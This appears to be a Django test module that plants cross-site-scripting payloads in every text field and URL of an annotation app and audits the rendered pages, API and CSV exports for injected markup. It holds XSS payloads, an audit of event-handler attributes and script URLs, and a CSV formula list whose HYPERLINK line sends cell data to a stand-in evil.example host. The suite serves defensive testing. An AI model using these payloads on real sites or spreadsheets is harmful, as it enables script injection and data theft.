"""Nothing leaked: hostile text in the data or the URL never becomes markup or script.

Hostile payloads are planted in every place a user or a source file can put text (a
source's title, authors and citation, a section's title, a passage's text, a theme's
name and definition, a username, a memo, a tag's quote) and sent as query values; then
every page that shows them is fetched and parsed. ``Audit`` (Python's ``html.parser``)
flags any element the payloads could have made: an ``on*`` or ``hx-on`` attribute, a
``javascript:`` URL, an inline script or style. And each planted value must be on the
page as text, so an escaping that swallowed the value (or a page that forgot to show
it) fails too.
"""

from __future__ import annotations

import csv
import importlib
import io
import json
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import quote

import pytest
from django.apps import apps
from django.contrib.auth.models import Group, User
from django.db import transaction
from django.test import Client

from annotations.models import RESEARCHERS_GROUP, Tag, Theme
from annotations.services import tag_create
from config.middleware import CONTENT_SECURITY_POLICY
from corpus.models import Passage, Section, Source

pytestmark = pytest.mark.django_db

PAYLOADS = (
    '<script>alert("x")</script>',
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</textarea><svg onload=alert(1)>",
    "javascript:alert(1)",
    "</title></mark><style>*{}</style><b onclick=alert(1)>",
)
# Each passage reads TEXT with a payload in the middle; searches look for its words.
TEXT = "Strikers walked out {payload} of the rolling mill at dawn."
QUERY = "rolling mill"
SCRIPT_SOURCES = ("/static/", "/api/docs/", "/admin/jsi18n/")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}
FORBIDDEN_ELEMENTS = {"style", "iframe", "object", "embed", "base", "frame"}
HTMX = {"HTTP_HX_REQUEST": "true"}
HTML = {"HTTP_ACCEPT": "text/html"}


# --- The audit ------------------------------------------------------------------------


class Audit(HTMLParser):
    """Every start tag checked for what an injection would add; all text kept."""

    def __init__(self, *, allow_styles: bool = False) -> None:
        super().__init__(convert_charrefs=True)
        self.allow_styles = allow_styles
        self.problems: list[str] = []
        self.texts: list[str] = []
        self.attribute_values: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = {name: value or "" for name, value in attrs}
        self.attribute_values.extend(attributes.values())
        shown = self.get_starttag_text()
        if tag == "script":
            src = attributes.get("src", "")
            data_block = "src" not in attributes and attributes.get("type") == "application/json"
            if not data_block and not src.startswith(SCRIPT_SOURCES):
                self.problems.append(f"script not from /static/: {shown}")
        if tag in FORBIDDEN_ELEMENTS and not (tag == "style" and self.allow_styles):
            self.problems.append(f"<{tag}> element: {shown}")
        if tag == "meta" and attributes.get("http-equiv", "").lower() == "refresh":
            self.problems.append(f"meta refresh: {shown}")
        for name, value in attributes.items():
            if name.startswith(("on", "hx-on")):
                self.problems.append(f"event handler attribute {name}: {shown}")
            elif name == "style" and not self.allow_styles:
                self.problems.append(f"style attribute: {shown}")
            elif name in URL_ATTRIBUTES:
                scheme = re.sub(r"[\x00-\x20]", "", value).lower()
                if scheme.startswith(("javascript:", "vbscript:", "data:text/html")):
                    self.problems.append(f"script URL in {name}: {shown}")

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def shows(self, value: str) -> bool:
        """Whether ``value`` is on the page as text (or in an attribute, such as a title)."""
        return value in "".join(self.texts) or any(value in v for v in self.attribute_values)


def audit_html(body: str, *, allow_styles: bool = False) -> Audit:
    audit = Audit(allow_styles=allow_styles)
    audit.feed(body)
    audit.close()
    return audit


def test_the_audit_catches_what_an_injection_adds():
    # Each payload, left unescaped where it is aimed, adds something the audit flags.
    contexts = ("<p>{}</p>", '<p title="{}">', "<p title='{}'>", '<a href="{}">x</a>')
    for payload in PAYLOADS:
        assert any(audit_html(context.format(payload)).problems for context in contexts)
    assert audit_html('<div hx-on:click="alert(1)"></div>').problems
    clean = audit_html('<script src="/static/js/reader.js"></script><p>&lt;script&gt;</p>')
    assert not clean.problems and clean.shows("<script>")


# --- The hostile world ----------------------------------------------------------------


@dataclass
class Planted:
    """One payload, planted everywhere text goes."""

    index: int
    payload: str
    source: Source
    passage: Passage
    theme: Theme
    user: User
    tags: list[Tag] = field(default_factory=list)

    @property
    def values(self) -> dict[str, str]:
        """The planted text of each kind, to find on the pages that show that kind."""
        p = self.payload
        return {
            "title": f"Title {p}",
            "authors": f"Authors {p}",
            "citation": f"Citation {p}",
            "venue": f"Venue {p}",
            "section": f"Section {p}",
            "section_authors": f"Chapter authors {p}",
            "text": TEXT.format(payload=p),
            "theme": self.theme.name,
            "definition": f"Definition {p}",
            "user": self.user.username,
            "memo": f"Memo {p}",
            "span_memo": f"Span memo {p}",
            "quote": f"out {p} of",
            "orphan_quote": f"Orphan quote {p}",
            "orphan_memo": f"Orphan memo {p}",
            "query": p,
            # A search snippet may start its fragment inside the payload.
            "snippet": f"{p[1:]} of the rolling mill",
        }


def _plant(index: int, payload: str, *, researchers: Group) -> Planted:
    source = Source.objects.create(
        slug=f"hostile-{index}", title=f"Title {payload}", authors=f"Authors {payload}",
        year=1990 + index, venue=f"Venue {payload}", citation=f"Citation {payload}",
        filename=f"hostile-{index}.txt", ordinal=50 + index,
    )
    section = Section.objects.create(source=source, ordinal=1, title=f"Section {payload}",
                                     authors=f"Chapter authors {payload}")
    text = TEXT.format(payload=payload)
    passage = Passage.objects.create(
        source=source, section=section, ordinal=1, text=text, heading=section.title,
        char_start=0, char_end=len(text), word_count=len(text.split()),
    )
    theme = Theme.objects.create(slug=f"hostile-{index}", name=f"Theme {index} {payload}",
                                 definition=f"Definition {payload}", colour="#1a2b3c",
                                 order=100 + index)
    user = User.objects.create_user(username=f"{payload} {index}", password="x")
    user.groups.add(researchers)
    planted = Planted(index=index, payload=payload, source=source, passage=passage,
                      theme=theme, user=user)
    at = text.index(payload)
    # Overlapping spans, one cutting the payload in two: the highlighting splits the text
    # at every span boundary and must escape every piece.
    for start, end, memo in [
        (None, None, f"Memo {payload}"),
        (at - len("out "), at + len(payload) + len(" of"), f"Span memo {payload}"),
        (at + 3, len(text) - 1, ""),
    ]:
        planted.tags.append(tag_create(user=user, passage=passage, theme=theme,
                                       start=start, end=end, memo=memo).tag)
    orphan = Tag.objects.create(source=source, passage=None, theme=theme, user=user,
                                quote=f"Orphan quote {payload}", memo=f"Orphan memo {payload}")
    planted.tags.append(orphan)
    return planted


@pytest.fixture(scope="module")
def planted_once(django_db_setup, django_db_blocker) -> Iterator[list[Planted]]:
    """The hostile world, made once for the module (about 70 tests only read it) in a
    transaction rolled back at the end; each test's own transaction is a savepoint in it."""
    with django_db_blocker.unblock(), transaction.atomic():
        codebook = importlib.import_module("annotations.migrations.0003_roles_and_codebook")
        codebook.create_roles_and_themes(apps, None)
        researchers = Group.objects.get(name=RESEARCHERS_GROUP)
        User.objects.create_superuser(username="admin", password="x")
        yield [_plant(index, payload, researchers=researchers)
               for index, payload in enumerate(PAYLOADS)]
        transaction.set_rollback(True)


@pytest.fixture(scope="module")
def logged_in(planted_once) -> dict[str, Client]:
    """A client per user by username, logged in once: their sessions live as long as the
    world. Logging in for each page took a third of this module's time."""
    clients = {}
    for user in [*(planted.user for planted in planted_once), User.objects.get(username="admin")]:
        clients[user.username] = Client()
        clients[user.username].force_login(user)
    return clients


@pytest.fixture
def world(planted_once, logged_in, db) -> list[Planted]:
    return planted_once


@pytest.fixture
def client_as(logged_in, world) -> Callable[[str, Planted], Client]:
    """The client of a viewer: anonymous, the researcher who planted a payload, or staff."""

    def client_for(viewer: str, planted: Planted) -> Client:
        username = {"anonymous": None, "researcher": planted.user.username, "staff": "admin"}
        return Client() if viewer == "anonymous" else logged_in[username[viewer]]

    return client_for


# --- Every page that shows the planted text --------------------------------------------

READER = ("title", "section", "section_authors", "text", "theme", "definition", "user", "memo",
          "span_memo", "quote")
OVERVIEW = ("title", "authors", "venue", "citation", "section", "section_authors")
PASSAGE = ("title", "citation", "section", "section_authors", "text", "theme", "user", "memo",
           "span_memo", "quote")
EXCERPTS = ("title", "authors", "section", "theme", "definition", "user", "memo", "span_memo",
            "quote", "text")


@dataclass(frozen=True)
class Page:
    """A page to fetch: its URL with ``{slug}``, ``{passage}``, ``{theme}``, ``{tag}``,
    ``{user}``, ``{q}`` (the payload, URL-quoted) filled in for each payload, or fetched
    once if it names none. ``shows`` are the kinds of planted text it must show.

    A per-payload page is seen by the researcher who planted that payload (controls for
    their own tags, their name in the header); other pages by the first payload's one.
    ``third_party`` pages (DRF's browsable API, the Swagger UI page) have inline styles of
    their own: the CSP blocks them, which costs those pages a little layout, no more.
    """

    url: str
    viewer: str = "anonymous"
    shows: tuple[str, ...] = ()
    status: int = 200
    headers: dict[str, str] = field(default_factory=dict)
    third_party: bool = False

    def urls(self, world: list[Planted]) -> list[tuple[str, list[Planted]]]:
        if not re.search(r"\{\w+\}", self.url):
            return [(self.url, world)]
        return [(self.url.format(
            slug=planted.source.slug, passage=planted.passage.pk, theme=planted.theme.slug,
            theme_pk=planted.theme.pk, tag=planted.tags[0].pk, orphan=planted.tags[-1].pk,
            source_pk=planted.source.pk, user=quote(planted.user.username),
            q=quote(planted.payload, safe=""),
        ), [planted]) for planted in world]


PAGES = {
    # The reader, as each kind of visitor, and filtered.
    "source overview": Page("/sources/{slug}/", shows=OVERVIEW),
    "reader": Page("/sources/{slug}/1/", shows=READER),
    "reader as researcher": Page("/sources/{slug}/1/", "researcher", shows=READER),
    "reader as staff": Page("/sources/{slug}/1/", "staff", shows=READER),
    "reader filtered": Page("/sources/{slug}/1/?theme={theme}&tagger={user}", "researcher",
                            shows=READER),
    # Nobody tagged as that tagger: the page shows no chips, only the text and codebook.
    "reader, hostile filter": Page("/sources/{slug}/1/?theme={q}&tagger={q}", "researcher",
                                   shows=("title", "section", "text", "theme", "definition")),
    "reader, hostile marks": Page("/sources/{slug}/1/?hl={q}&hl=rolling&back=/search/?q={q}",
                                  "researcher", shows=READER),
    "passage": Page("/passages/{passage}/tagging/", shows=PASSAGE),
    "passage as researcher": Page("/passages/{passage}/tagging/", "researcher", shows=PASSAGE),
    "passage as staff": Page("/passages/{passage}/tagging/", "staff", shows=PASSAGE),
    "source list": Page("/sources/", shows=("title", "authors", "citation")),
    "home": Page("/", "researcher", shows=("title",)),
    # The codebook.
    "theme list": Page("/themes/", shows=("theme", "definition", "title", "authors")),
    "theme detail": Page("/themes/{theme}/", shows=EXCERPTS),
    "theme detail, one source": Page("/themes/{theme}/?source={slug}", "researcher",
                                     shows=EXCERPTS),
    "theme detail, hostile source": Page("/themes/{theme}/?source={q}", shows=("theme",)),
    "orphans": Page("/themes/orphans/", shows=("theme", "user", "orphan_quote", "orphan_memo",
                                               "authors")),
    "orphans as staff": Page("/themes/orphans/", "staff", shows=("orphan_quote", "orphan_memo")),
    # Search, its filters and the concordance.
    "search for the payload": Page("/search/?q={q}", shows=("query",)),
    "search hits": Page(f"/search/?q={quote(QUERY)}", shows=("title", "section", "theme",
                                                             "snippet")),
    "search by theme": Page(f"/search/?q={quote(QUERY)}&theme={{theme}}", "researcher",
                            shows=("title", "section", "theme", "snippet", "user")),
    "search by tagger": Page("/search/?tagged_by={user}", shows=("title", "user")),
    "search, hostile filters": Page("/search/?theme={q}&source={q}&author={q}&kind={q}",
                                    shows=("query",)),
    "concordance": Page(f"/search/?q={quote(QUERY)}&view=kwic", shows=("title", "section")),
    "concordance of the payload": Page("/search/?q={q}&view=kwic&sort={q}", shows=("query",)),
    # The admin.
    "admin index": Page("/admin/", "staff"),
    "admin themes": Page("/admin/annotations/theme/", "staff", shows=("theme",)),
    "admin theme search": Page("/admin/annotations/theme/?q={q}", "staff", shows=("query",)),
    "admin theme": Page("/admin/annotations/theme/{theme_pk}/change/", "staff",
                        shows=("theme", "definition")),
    "admin tags": Page("/admin/annotations/tag/", "staff", shows=("theme", "user")),
    "admin tag": Page("/admin/annotations/tag/{tag}/change/", "staff",
                      shows=("theme", "user", "memo", "text")),
    "admin orphan tag": Page("/admin/annotations/tag/{orphan}/change/", "staff",
                             shows=("orphan_quote", "orphan_memo")),
    "admin source": Page("/admin/corpus/source/{source_pk}/change/", "staff",
                         shows=("title", "authors", "citation")),
    "admin sections": Page("/admin/corpus/section/", "staff", shows=("section",)),
    "admin passage": Page("/admin/corpus/passage/{passage}/change/", "staff",
                          shows=("text", "section")),
    "admin users": Page("/admin/auth/user/", "staff", shows=("user",)),
    # Error pages and the login page, the payload in their URL.
    "404": Page("/nowhere/{q}/", status=404),
    "404 in a slug": Page("/themes/{q}/", status=404),
    "404 logged in": Page("/sources/{q}/", "researcher", status=404, shows=("user",)),
    "login, hostile next": Page("/accounts/login/?next={q}"),
    "login, logged in": Page("/accounts/login/?next={q}", "researcher", shows=("user",)),
    # The browsable API: what a browser gets from an API address.
    "API docs": Page("/api/docs/?lang={q}&version={q}", third_party=True),
    "browsable API, hostile query": Page("/api/passages/?q={q}", headers=HTML,
                                         third_party=True),
    "browsable API, excerpts": Page("/api/excerpts/", headers=HTML, third_party=True,
                                    shows=("citation", "section", "user", "memo")),
    "browsable API, themes": Page("/api/themes/", headers=HTML, third_party=True,
                                  shows=("theme", "definition")),
}


def audit_response(response, *, planted: list[Planted], shows: tuple[str, ...] = (),
                   third_party: bool = False) -> Audit:
    """The one check every HTML answer gets (pages, fragments, error pages): the CSP
    header, no injected markup, and the planted text of each kind in ``shows`` on it."""
    url = response.request["PATH_INFO"]
    assert response["Content-Type"].startswith("text/html"), url
    policy = response["Content-Security-Policy"]
    assert policy == CONTENT_SECURITY_POLICY, url
    assert "script-src 'self'" in policy and "unsafe" not in policy
    audit = audit_html(response.content.decode(), allow_styles=third_party)
    assert audit.problems == [], url
    # The browsable API shows the JSON: its strings are JSON-escaped, then HTML-escaped.
    shown = (lambda value: json.dumps(value)[1:-1]) if third_party else str
    missing = [(kind, one.values[kind]) for one in planted for kind in shows
               if not audit.shows(shown(one.values[kind]))]
    assert missing == [], url
    return audit


@pytest.mark.parametrize("name", PAGES)
def test_no_page_turns_hostile_text_into_markup(name, world, client_as):
    page = PAGES[name]
    for url, planted in page.urls(world):
        response = client_as(page.viewer, planted[0]).get(url, **page.headers)
        assert response.status_code == page.status, url
        audit_response(response, planted=planted, shows=page.shows,
                       third_party=page.third_party)


# --- htmx fragments ----------------------------------------------------------------------


@pytest.mark.parametrize("action", ["tag", "memo", "delete"])
def test_htmx_fragments_escape_too(action, world, client_as):
    for planted in world:
        client = client_as("researcher", planted)
        whole, span = planted.tags[0], planted.tags[1]
        url, data = {
            "tag": (f"/passages/{planted.passage.pk}/tags/",
                    {"theme": "paternalism", "start": span.start, "end": span.end}),
            "memo": (f"/tags/{span.pk}/memo/", {"memo": planted.values["span_memo"] + "!"}),
            "delete": (f"/tags/{whole.pk}/delete/", {}),
        }[action]
        response = client.post(url, data, **HTMX)
        assert response.status_code == 200
        assert response.content.decode().lstrip().startswith("<article")
        audit_response(response, planted=[planted],
                       shows=("text", "theme", "user", "span_memo", "quote"))
        event = "tag-removed" if action == "delete" else "tag-status"
        assert json.loads(response["HX-Trigger"])[event]["message"]


def test_refusals_show_no_markup(world, make_user):
    """A refusal is plain text for htmx (the reader shows it as text) or the error page."""
    client = Client()
    client.force_login(make_user("reader", role="student"))
    for planted in world:
        url = f"/passages/{planted.passage.pk}/tags/"
        refused = client.post(url, {"theme": planted.theme.slug}, **HTMX)
        assert (refused.status_code, refused["Content-Type"]) == (
            403, "text/plain; charset=utf-8")
        page = client.post(url, {"theme": planted.theme.slug, "memo": planted.payload})
        assert page.status_code == 403
        audit_response(page, planted=[planted])


# --- Admin messages, which name themes ----------------------------------------------------


def test_admin_messages_escape_theme_names(world, client_as):
    client = client_as("staff", world[0])
    for planted in world:
        refused = client.post(f"/admin/annotations/theme/{planted.theme.pk}/delete/",
                              {"post": "yes"}, follow=True)
        audit = audit_response(refused, planted=[planted], shows=("theme",))
        assert audit.shows(f"“{planted.theme.name}” cannot be deleted")
    unused = Theme.objects.create(slug="hostile-unused", name=f"Unused {PAYLOADS[0]}",
                                  definition=PAYLOADS[1], colour="#000000")
    chosen = [unused.pk, *(planted.theme.pk for planted in world)]
    response = client.post("/admin/annotations/theme/", {
        "action": "delete_unused_themes", "_selected_action": chosen, "index": 0,
    }, follow=True)
    audit = audit_response(response, planted=world, shows=("theme",))
    assert audit.shows(f"Deleted: {unused.name}.")


# --- The theme colours: a stylesheet made from data -----------------------------------------


def test_theme_colours_css_holds_only_classes_and_hex_colours(world, client):
    response = client.get("/themes/colours.css")
    assert response["Content-Type"] == "text/css; charset=utf-8"
    assert response["X-Content-Type-Options"] == "nosniff"
    rules = [line for line in response.content.decode().splitlines()
             if line.strip() and not line.startswith("/*")]
    assert len(rules) == Theme.objects.count()
    for rule in rules:
        assert re.fullmatch(r"\.theme-\d+ \{ --tc: #[0-9a-fA-F]{6}; \}", rule), rule


# --- The API: data as JSON, never as a page --------------------------------------------------

API_URLS = (
    "/api/sources/", "/api/sources/{slug}/", "/api/sections/", "/api/themes/",
    "/api/themes/{theme}/", "/api/tags/", "/api/excerpts/", "/api/annotations/",
    "/api/annotations/{tag}/", f"/api/passages/?q={quote(QUERY)}", "/api/passages/{passage}/",
    f"/api/kwic/?q={quote(QUERY)}", "/api/passages/?q={q}", "/api/excerpts/?theme={q}",
    "/api/passages/?theme={q}&source={q}", "/api/nowhere/{q}/",
)


@pytest.mark.parametrize("url", API_URLS)
def test_api_answers_json_whatever_it_holds(url, world, client_as):
    client = client_as("researcher", world[0])
    for address, planted in Page(url).urls(world):
        for accept in ({}, {"HTTP_ACCEPT": "*/*"}, {"HTTP_ACCEPT": "application/json"}):
            response = client.get(address, **accept)
            assert response["Content-Type"].split(";")[0] in {
                "application/json", "application/ld+json"}, address
            assert response["X-Content-Type-Options"] == "nosniff"
            json.loads(response.content)  # well-formed: no text spliced in unquoted
        if response.status_code == 200 and "{" not in url and "q=" not in url:
            body = response.content.decode()
            assert any(json.dumps(one.payload)[1:-1] in body for one in planted), address


# --- CSV: no cell a spreadsheet would run ------------------------------------------------------

FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "-2+3", "+1+1", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1")


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cells_never_start_a_formula(formula, researcher, themes, client):
    """Every text column, from the source, the codebook, a tagger or a memo, is neutralised.

    A span tag's quote is the tagged words themselves, here from the passage's start.
    """
    source = Source.objects.create(slug="formulas", title=formula, authors=formula, year=1991,
                                   citation=formula, filename="f.txt")
    section = Section.objects.create(source=source, ordinal=1, title=formula, authors=formula)
    text = f"{formula} and the rest of the passage."
    passage = Passage.objects.create(source=source, section=section, ordinal=1, text=text,
                                     char_start=0, char_end=len(text))
    tagger = User.objects.create_user(username=f"{formula[:1]}tagger", password="x")
    tagger.groups.add(Group.objects.get(name=RESEARCHERS_GROUP))
    tag_create(user=tagger, passage=passage, theme=themes["paternalism"], start=0,
               end=len(formula), memo=formula)
    tag_create(user=tagger, passage=passage, theme=themes["workerism"], memo=formula)
    response = client.get("/api/excerpts/", {"format": "csv", "source": "formulas"})
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    assert len(rows) == 2
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
        assert row["memo"] == "'" + formula
        assert row["chapter"] == "'" + formula
        assert row["authors"] == "'" + formula
        assert row["citation"] == "'" + formula
    # The span's quote, and the whole passage's text.
    assert {row["text"] for row in rows} == {"'" + formula, "'" + text}
    if formula[0] in "=+-@":
        assert all(row["tagger"] == "'" + tagger.username for row in rows)
